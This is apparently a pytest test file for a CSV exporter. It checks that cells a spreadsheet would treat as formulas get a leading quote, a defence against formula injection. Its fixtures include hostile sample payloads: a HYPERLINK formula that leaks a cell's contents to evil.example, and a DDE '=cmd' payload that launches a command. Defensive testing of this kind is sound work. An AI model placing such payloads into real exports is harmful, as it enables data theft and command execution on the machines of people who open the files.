"""CSV cells a spreadsheet would run as formulas start with `'` (issue 16, item 13)."""

from __future__ import annotations

import csv
import io
import json
import os
import subprocess
import sys
from pathlib import Path

import pytest

from armstrace.export.cells import neutralise_formula

REPO = Path(__file__).resolve().parents[2]
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


@pytest.mark.parametrize("cell", [
    '=HYPERLINK("http://evil.example","x")', "=cmd|' /C calc'!A0", "+1 555 0100",
    "-2+3", "@SUM(A1)", "\t=1", "\r=1",
])
def test_neutralise_formula_quotes_a_formula_cell(cell: str) -> None:
    assert neutralise_formula(cell) == "'" + cell


@pytest.mark.parametrize("cell", ["Rafale", "a=b", "", 12, -3, None, "2024-05-02", "-", "-3",
                                  "+1.5"])
def test_neutralise_formula_keeps_other_cells(cell: object) -> None:
    assert neutralise_formula(cell) == cell


def test_export_csv_quotes_formula_cells_of_chosen_ids_and_titles(tmp_path: Path) -> None:
    source = tmp_path / "chosen.jsonl"
    source.write_text(json.dumps({
        "id": '=HYPERLINK("http://evil.example/?leak="&A1,"open")',
        "title": "=cmd|' /C calc'!A0", "url": "+1 555 0100", "published": "2024-05-02",
        "text": "Serbia ordered 12 Rafale jets from France.",
    }) + "\n", encoding="utf-8")
    db = tmp_path / "chosen.db"
    environment = {**os.environ, "PYTHONPATH": str(REPO / "src")}
    command = [sys.executable, "-m", "armstrace.cli"]
    subprocess.run([*command, "ingest", str(source), "--db", str(db), "--quiet"],
                   check=True, env=environment, timeout=300)

    cells = []
    for what in ("records", "deals"):
        done = subprocess.run([*command, "export", "--db", str(db), "--to", "csv", "--what", what],
                              check=True, env=environment, capture_output=True, text=True,
                              timeout=120)
        rows = list(csv.reader(io.StringIO(done.stdout, newline="")))
        assert len(rows) == 2, done.stdout
        cells += rows[1]

    assert "'=cmd|' /C calc'!A0" in cells and "'+1 555 0100" in cells
    assert any(cell.startswith("'=HYPERLINK(") for cell in cells)
    assert not [cell for cell in cells if cell.startswith(FORMULA_STARTS)]
